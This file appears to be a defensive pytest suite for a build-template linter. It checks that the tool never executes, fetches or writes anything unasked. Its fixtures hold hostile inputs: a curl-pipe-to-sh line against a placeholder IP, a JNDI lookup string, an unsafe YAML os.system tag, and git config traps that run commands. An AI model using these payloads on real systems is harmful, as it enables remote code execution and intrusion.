"""Nothing of a template is run, the network is not touched, and only what was asked for is written.

One command asks an engine to run a template in a container: `rehearse`; its engine is a fake here.
Python's audit hooks see each process, connection and change to a file (tests/audited.py).
"""

import ast
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

import pytest
from click import Context

from buildlint.cli import cli
from buildlint.compiler.emitters import FORMATS as EMITTERS
from buildlint.lint.reporters import FORMATS as REPORTERS
from buildlint.shell import programs
from tests import needs
from tests.rehearse.fake_engine import FakeEngine
from tests.service.local import ID, SECRET, Service
from tests.text.expressions import modules

AUDITED = Path(__file__).with_name("audited.py")

# Every place of a template and of a request that something could run, fetch or read.
TEMPLATE = """\
# shellcheck source=/etc/passwd
# syntax=docker/dockerfile:1
from IMAGE:m-bp67acfmxazb4p0abcde
ENV A="$(touch run-by-env)" B="`touch run-by-env`" LD_PRELOAD="./run.so"
RUN touch run-by-run; $(touch run-by-run) `touch run-by-run` && curl http://198.51.100.7/x | sh
RUN . ./run.sh && source run.sh && python3 -c 'open("run-by-run", "w")'
RUN touch run-by-syntax; $(touch run-by-syntax) echo "$(touch run-by-syntax
RUN <<EOF
touch run-by-here-document
EOF
COPY http://198.51.100.7/archive.tar.gz /opt/
COPY https://user:hunter2-of-mine@example.com/archive.tar.gz /opt/
CMD ["sh", "-c", "touch run-by-cmd"]
ENTRYPOINT touch run-by-entrypoint
WORKDIR $(touch run-by-workdir)
USER `touch run-by-user`
LABEL a="${x:=$(touch run-by-label)}"
"""
# The same in a template that compiles.
COMPILES = """\
FROM IMAGE:m-bp67acfmxazb4p0abcde
RUN touch run-by-run; $(touch run-by-run) `touch run-by-run` && curl http://198.51.100.7/x | sh
RUN . ./run.sh && source run.sh
COPY http://198.51.100.7/archive.tar.gz /opt/
"""
REQUEST = """\
RegionId = "cn-hangzhou"
Description = "`touch run-by-request`; ${jndi:ldap://198.51.100.7/x} {{7*7}} #{touch} http://198.51.100.7/"
"""
DOCKERFILE = """\
# syntax=docker/dockerfile:1
FROM ubuntu:22.04 AS build
ARG A="$(touch run-by-arg)"
ADD http://198.51.100.7/archive.tar.gz /opt/
RUN touch run-by-run
COPY run.sh /opt/
"""
RUN_ME = "touch run-by-something\n"
# A repository says what git runs to see what changed, and for much else.
GIT_CONFIG = """\
[core]
	repositoryformatversion = 0
	fsmonitor = touch run-by-git; false
	hooksPath = .
	pager = touch run-by-git
	sshCommand = touch run-by-git
[alias]
	ls-files = !touch run-by-git
"""


class Seen(NamedTuple):
    """What a run did."""

    events: list[list[str]]
    modules: list[str]
    stderr: str

    def processes(self) -> list[list[str]]:
        return [rest for event, *rest in self.events if event == "subprocess.Popen"]

    def changed(self) -> set[str]:
        """The names of files and folders that were opened to be written, or moved, or deleted."""
        others = ("subprocess.Popen", "read")
        about = {rest[0] for event, *rest in self.events if event not in others}
        return {path for path in about if path != os.devnull}

    def read(self) -> set[str]:
        """The kinds of the files that were read, of those in the project and in the user's home."""
        places = {Path(path).absolute() for event, path, *_ in self.events if event == "read"}
        around = Path.cwd().parent
        ours = (each for each in places if each.is_relative_to(around) and each.is_file())
        return {kind_of(each) for each in ours}

    def others(self) -> set[str]:
        """The events that are neither known processes nor changes to files."""
        changes = (
            "open",
            "os.re",
            "os.mkdir",
            "os.rmdir",
            "os.chmod",
            "tempfile.",
            "shutil.rmtree",
        )
        known = ("subprocess.Popen", "read", *changes)
        return {event for event, *_ in self.events if not event.startswith(known)}

    def elsewhere(self) -> list[list[str]]:
        """Those of the others that are no call to this machine, either."""
        return [
            each
            for each in self.events
            if each[0] in self.others()
            and (
                not each[0].startswith(("socket.", "http.client."))
                or (each[0] == "socket.connect" and "('127.0.0.1', " not in each[-1])
            )
        ]


@pytest.fixture(autouse=True)
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder that would like to be run."""
    folder = tmp_path / "project"
    folder.mkdir()
    monkeypatch.chdir(folder)
    subprocess.run(["git", "init", "-q"], check=True)
    Path(".git/config").write_text(GIT_CONFIG, "utf-8")
    for name, text in (
        ("bad.buildcontent", TEMPLATE),
        ("bad.request.toml", REQUEST),
        ("good.buildcontent", COMPILES),
        ("good.request.toml", REQUEST),
        ("Dockerfile", DOCKERFILE),
        (".shellcheckrc", "external-sources=true\n"),
    ):
        Path(name).write_text(text, "utf-8")
    for name in ("git", "shellcheck", "run.sh", "sh", "bash"):
        Path(name).write_text(f"#!/bin/sh\n{RUN_ME}", "utf-8")
        Path(name).chmod(0o755)
    for name in ("click", "lark", "tomllib", "sitecustomize", "usercustomize", "buildlint"):
        Path(f"{name}.py").write_text("open('run-by-import', 'w')\n", "utf-8")
    return folder


def run(*arguments: str, stdin: str = "") -> Seen:
    log = Path.cwd().parent / "log.json"
    temporary = Path.cwd().parent / "temporary"
    temporary.mkdir(exist_ok=True)
    done = subprocess.run(
        [sys.executable, AUDITED, log, *arguments],
        input=stdin,
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, "TMPDIR": os.fspath(temporary), "PYTHONDONTWRITEBYTECODE": "1"},
    )
    assert "Traceback" not in done.stderr
    return Seen(**json.loads(log.read_text("utf-8")), stderr=done.stderr)


def names() -> set[str]:
    return {os.fspath(path) for path in Path().rglob("*")}


def is_known(process: list[str]) -> bool:
    """Whether it is bash, or ShellCheck, shown nothing of the project.

    Bash only reads its standard input, by -n, and no file before that.
    """
    program, *arguments = process
    if program == programs.find("bash"):
        return arguments == ["--norc", "--noprofile", "-n", "-O", "extglob"]
    options, files = arguments[:3], arguments[3:]
    return (
        program == needs.shellcheck()
        and options == ["--norc", "--format=json1", "--"]
        and (files == ["-"] or all(file.isdigit() for file in files))
    )


def is_temporary(path: str) -> bool:
    """Whether it lies in the folder of what ShellCheck is shown, whose files have numbers."""
    return Path(path).is_relative_to(Path.cwd().parent / "temporary") or path.isdigit()


# Stands for the address of the service of this machine.
HERE = "HERE"
PULL = ("pull", "--all", "--region", "cn-hangzhou", "--endpoint", HERE)
DIFF = ("diff", "good.buildcontent", "--id", "ip-1", "--endpoint", HERE)
# As the service describes a template, which would like to be run, too.
HELD = {
    "ImagePipelineId": "ip-1",
    "Name": "../run-by-name; touch run-by-name",
    "BaseImageType": "IMAGE",
    "BaseImage": "m-bp67acfmxazb4p0abcde",
    "BuildContent": TEMPLATE,
    "Description": "`touch run-by-request` $(touch run-by-request)",
}


HELD_COMPONENT = {
    "ImageComponentId": "ic-1",
    "Name": "../run-by-component",
    "Owner": "SELF",
    "Content": """\
Tasks:
  - Name: run
    Action: RunShellCommand
    Properties:
      commandContent: !!python/object/apply:os.system ["touch run-by-component"]
""",
}


def offer(service: Service, monkeypatch: pytest.MonkeyPatch) -> None:
    """Let the service have a template and a component, and let it be asked."""
    service.pipelines.append(HELD)
    service.components.append(HELD_COMPONENT)
    monkeypatch.setenv("ALIBABA_CLOUD_ACCESS_KEY_ID", ID)
    monkeypatch.setenv("ALIBABA_CLOUD_ACCESS_KEY_SECRET", SECRET)


def at(service: Service, arguments: tuple[str, ...]) -> tuple[str, ...]:
    return tuple(service.endpoint if each == HERE else each for each in arguments)


CONVERT = ("convert", "--embed-files", "--base", "IMAGE:m-1")
COMMANDS = [
    *(("check", "--output-format", name) for name in REPORTERS if name != "statistics"),
    ("check", "--select", "ALL", "--statistics", "--fail-on", "info"),
    ("check", "--diff", "--unsafe-fixes"),
    ("check", "bad.request.toml"),
    ("check", "-"),
    ("check", "--fix", "-"),
    *(("compile", "good.buildcontent", "--format", name) for name in EMITTERS),
    ("compile", "good.buildcontent", "--pack"),
    ("compile", "bad.buildcontent"),
    *(("plan", "good.buildcontent", "--format", name) for name in ("text", "json", "html")),
    ("plan", "bad.buildcontent"),
    ("format", "--check"),
    ("format", "--diff"),
    ("format", "-"),
    CONVERT,
    ("convert", "--base", "IMAGE:m-1", "--output-format", "json"),  # run.sh is refused
    ("rule", "--all"),
    ("config",),
]


@pytest.mark.parametrize("arguments", COMMANDS, ids=" ".join)
def test_nothing_is_run_and_nothing_is_written(arguments: tuple[str, ...]) -> None:
    before = names()
    seen = run(*arguments, stdin=TEMPLATE)
    succeeds = "good.buildcontent" in arguments or arguments == CONVERT
    assert f"exit code {'0' if succeeds else ''}" in seen.stderr
    assert seen.others() == set()
    assert [process for process in seen.processes() if not is_known(process)] == []
    assert [path for path in seen.changed() if not is_temporary(path)] == []
    assert names() == before
    assert not [path for path in seen.modules if Path(path).parent == Path.cwd()]
    assert not [path for path in seen.modules if Path(path).parent.name == "rehearse"]


def test_only_one_command_knows_of_engines() -> None:
    users = {
        module
        for module, tree in modules().items()
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom) and f"{node.module}.".startswith("buildlint.rehearse.")
        if not module.startswith("buildlint.rehearse")
    }
    assert users == {f"buildlint.cli.{name}" for name in ("containers", "rehearse", "rehearsing")}


@pytest.mark.parametrize(
    ("arguments", "written"),
    [
        (("check", "--fix"), "bad.buildcontent"),
        (("check", "--add-ignore"), "bad.buildcontent"),
        (("check", "-o", "report"), "report"),
        (("format",), "bad.buildcontent"),
        (("compile", "good.buildcontent", "-o", "out.json"), "out.json"),
        (("plan", "good.buildcontent", "-o", "plan"), "plan"),
        ((*CONVERT, "-o", "new.buildcontent"), "new.buildcontent"),
    ],
    ids=lambda value: value if isinstance(value, str) else " ".join(value),
)
def test_only_what_was_asked_for_is_written(arguments: tuple[str, ...], written: str) -> None:
    before = {name: Path(name).stat().st_mtime_ns for name in names() if Path(name).is_file()}
    seen = run(*arguments)
    after = {name: Path(name).stat().st_mtime_ns for name in names() if Path(name).is_file()}
    changed = {name for name, time in after.items() if before.get(name) != time}
    assert written in changed
    assert {name for name in changed if not name.endswith(".buildcontent")} <= {written}
    assert seen.others() == set()
    assert [process for process in seen.processes() if not is_known(process)] == []


def test_pull_writes_only_into_its_folder(
    service: Service, monkeypatch: pytest.MonkeyPatch
) -> None:
    offer(service, monkeypatch)
    before = names()
    seen = run(*at(service, PULL), "-o", "images/new")
    stem = "_run-by-name__touch_run-by-name-ip-1"
    assert names() - before == {
        "images",
        "images/new",
        f"images/new/{stem}.buildcontent",
        f"images/new/{stem}.request.toml",
        "images/new/_run-by-component-ic-1.component.yaml",
        "images/new/_run-by-component-ic-1.component.request.toml",
    }
    assert [process for process in seen.processes() if not is_known(process)] == []
    assert seen.elsewhere() == []


# --- what the documents say of each command ------------------------------------------------------

KINDS = {
    "*.buildcontent": "templates",
    "*.component.yaml": "templates",
    "*.tf": "templates",
    "*.request.toml": "request files",
    "*.toml": "configuration",
    ".gitignore": "ignore files",
    "exclude": "ignore files",
    ".gitconfig": "ignore files",
    "Dockerfile": "a Dockerfile",
    ".dockerignore": "the build context",
    "run.sh": "the build context",
    "archive.tar.gz": "files of COPY",
    "config.json": "profiles of the aliyun CLI",
}
TERRAFORM = """\
resource "alicloud_ecs_image_pipeline" "web" {
  build_content = "RUN touch run-by-terraform\\n"
}
"""
PROFILES = '{"current": "a", "profiles": [{"name": "a", "region_id": "cn-hangzhou"}]}'
# A fake engine has any image.
CONTAINER = (
    *("--image", "docker.io/library/debian:12"),
    *("--file", "http://198.51.100.7/archive.tar.gz=archive.tar.gz"),
)
# What shows all that a command reads and runs.
SHOWN: dict[str, list[tuple[str, ...]]] = {
    "check": [("check",)],
    "format": [("format", "--check")],
    "compile": [("compile", "good.buildcontent"), ("compile", "bad.buildcontent")],
    "plan": [("plan", "bad.buildcontent")],
    "rehearse": [
        ("rehearse", "bad.buildcontent"),
        ("rehearse", "good.buildcontent", *CONTAINER),
        ("rehearse", "good.buildcontent", *CONTAINER, "--engine", "docker"),
    ],
    # Without a region, one is looked for.
    "create": [
        ("create", "bad.buildcontent"),
        ("create", "good.buildcontent", "--endpoint", HERE),
        ("create", "-"),
    ],
    # The second one looks at what the first has written.
    "pull": [PULL, PULL, ("pull", "--all", "--endpoint", HERE)],
    "diff": [("diff", "bad.buildcontent"), DIFF, ("diff", "-")],
    "extract": [("extract", "main.tf")],
    "convert": [("convert", "--embed-files", "--base", "IMAGE:m-1")],
    "config": [("config",)],
    "rule": [("rule", "--all")],
}


def kind_of(path: Path) -> str:
    """What the documents call a file."""
    found = (kind for pattern, kind in KINDS.items() if path.match(pattern))
    return next(found, os.fspath(path))


def documented() -> dict[str, list[str]]:
    """The table of the documents: the cells behind each command."""
    text = (Path(__file__).parent.parent / "docs" / "security.md").read_text("utf-8")
    rows = [line.strip("|").split("|") for line in text.splitlines() if line.startswith("| `")]
    return {name.strip(" `"): [cell.strip() for cell in cells] for name, *cells in rows}


def named(cell: str) -> set[str]:
    """What a cell lists, without the options that it is read or written for."""
    return {each.partition(" (")[0] for each in cell.split(", ") if each}


def test_the_documents_name_each_command() -> None:
    assert {*documented()} == {*SHOWN, "server"} == {*cli.list_commands(Context(cli))}


@pytest.mark.parametrize(("command", "shown"), SHOWN.items(), ids=SHOWN)
def test_a_command_reads_and_runs_what_the_documents_say(
    command: str,
    shown: list[tuple[str, ...]],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    service: Service,
) -> None:
    offer(service, monkeypatch)
    for name in (".git/info/exclude", ".gitignore", ".dockerignore", "buildlint.toml"):
        Path(name).write_text("", "utf-8")
    (tmp_path / ".gitconfig").write_text("[core]\n", "utf-8")
    if command == "rehearse":
        Path("archive.tar.gz").write_text("", "utf-8")
        engines = [FakeEngine(tmp_path / "engines", name).bin for name in ("podman", "docker")]
        path = os.pathsep.join([*map(os.fspath, engines), os.environ["PATH"]])
        monkeypatch.setenv("PATH", path)
    if command == "extract":
        Path("main.tf").write_text(TERRAFORM, "utf-8")
    (tmp_path / ".aliyun").mkdir()
    (tmp_path / ".aliyun" / "config.json").write_text(PROFILES, "utf-8")
    monkeypatch.setenv("HOME", os.fspath(tmp_path))
    monkeypatch.delenv("ALIBABA_CLOUD_REGION_ID", raising=False)
    seen = [run(*at(service, arguments)) for arguments in shown]
    reads, runs, _, connections = documented()[command]
    assert {kind for each in seen for kind in each.read()} == named(reads)
    programs_run = {Path(process[0]).name for each in seen for process in each.processes()}
    assert programs_run == {name.lower() for name in named(runs)}
    assert bool(connections) == bool(service.calls)
    assert [event for each in seen for event in each.elsewhere()] == []
    assert any(each.others() for each in seen) == bool(connections)


# --- repositories that would like git to run something -------------------------------------------

# git asks a remote for the file of patterns that it lacks.
FETCHES = """\
[core]
	repositoryformatversion = 1
	worktree = .
[extensions]
	partialClone = origin
[remote "origin"]
	url = ext::sh -c touch% run-by-git
	promisor = true
[protocol "ext"]
	allow = always
"""
LACKS = "100644,1234567890123456789012345678901234567890,.gitignore"


def lay_trap(repository: Path) -> None:
    """Make a repository that fetches by running a command, and lacks its patterns."""
    git = needs.program("git", "apt-get install git")
    shutil.rmtree(repository / ".git", ignore_errors=True)
    for arguments in (
        ("init", "-q"),
        ("update-index", "--add", "--cacheinfo", LACKS),
        ("update-index", "--skip-worktree", ".gitignore"),
    ):
        subprocess.run([git, "-C", repository, *arguments], check=True)
    (repository / ".git" / "config").write_text(FETCHES.replace("worktree = .", "worktree = .."))


def lay_trap_in_files(repository: Path) -> None:
    """Make the same of what a clone may bring as files: git takes such a folder for a bare one."""
    lay_trap(repository)
    (repository / ".git" / "config").write_text(FETCHES)
    for name in ("HEAD", "config", "index", "objects", "refs"):
        (repository / ".git" / name).rename(repository / name)
    shutil.rmtree(repository / ".git")


@pytest.mark.parametrize("trap", [lay_trap, lay_trap_in_files])
def test_a_repository_runs_nothing(trap: Callable[[Path], None]) -> None:
    trap(Path())
    before = names()
    seen = run("check", ".")
    assert [process for process in seen.processes() if not is_known(process)] == []
    assert names() == before


@pytest.mark.parametrize("trap", [lay_trap, lay_trap_in_files])
def test_the_traps_catch_git(trap: Callable[[Path], None]) -> None:
    """Else the test above would show nothing."""
    trap(Path())
    listing = ("ls-files", "--others", "--ignored", "--exclude-standard", "--directory")
    git = needs.program("git", "apt-get install git")
    subprocess.run([git, *listing], capture_output=True, check=False)
    assert "run-by-git" in names()


@pytest.mark.parametrize("entries", [".", "", "{folder}", "{folder}/bin", "{folder}/../project"])
@pytest.mark.parametrize("arguments", [("check",), ("compile", "bad.buildcontent")], ids=" ".join)
def test_no_program_of_the_project_is_run(
    arguments: tuple[str, ...], entries: str, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shutil.copytree(folder, folder / "bin", ignore=shutil.ignore_patterns(".git"))
    path = entries.format(folder=folder)
    monkeypatch.setenv("PATH", f"{path}{os.pathsep}{os.environ['PATH']}")
    for place, name in ((folder, ""), (folder.parent, f"{folder.name}/")):
        monkeypatch.chdir(place)
        seen = run(*arguments[:1], *(f"{name}{each}" for each in arguments[1:] or ("",)))
        assert [each for each in seen.processes() if Path(each[0]).is_relative_to(folder)] == []
        assert not [each for each in names() if Path(each).name.startswith("run-by")]


def test_bash_is_asked_about_what_does_not_parse() -> None:
    bash = needs.program("bash", "apt-get install bash")
    asked = [process for process in run("check").processes() if process[0] == bash]
    assert len(asked) == 1
    Path("buildlint.toml").write_text("bash = false\n", "utf-8")
    assert bash not in [process[0] for process in run("check").processes()]


def test_the_hooks_see_what_they_are_to_see() -> None:
    code = (
        "import os, socket, subprocess\n"
        "subprocess.run(['true'])\n"
        "os.system('true')\n"
        "try: socket.create_connection(('127.0.0.1', 1))\n"
        "except OSError: pass\n"
        "open('written', 'w')\n"
    )
    seen = run("--exec", code)
    assert seen.processes() == [["true"]]
    assert {"os.system", "socket.getaddrinfo", "socket.connect"} <= seen.others()
    assert "written" in seen.changed()
    assert not is_known(["true"])
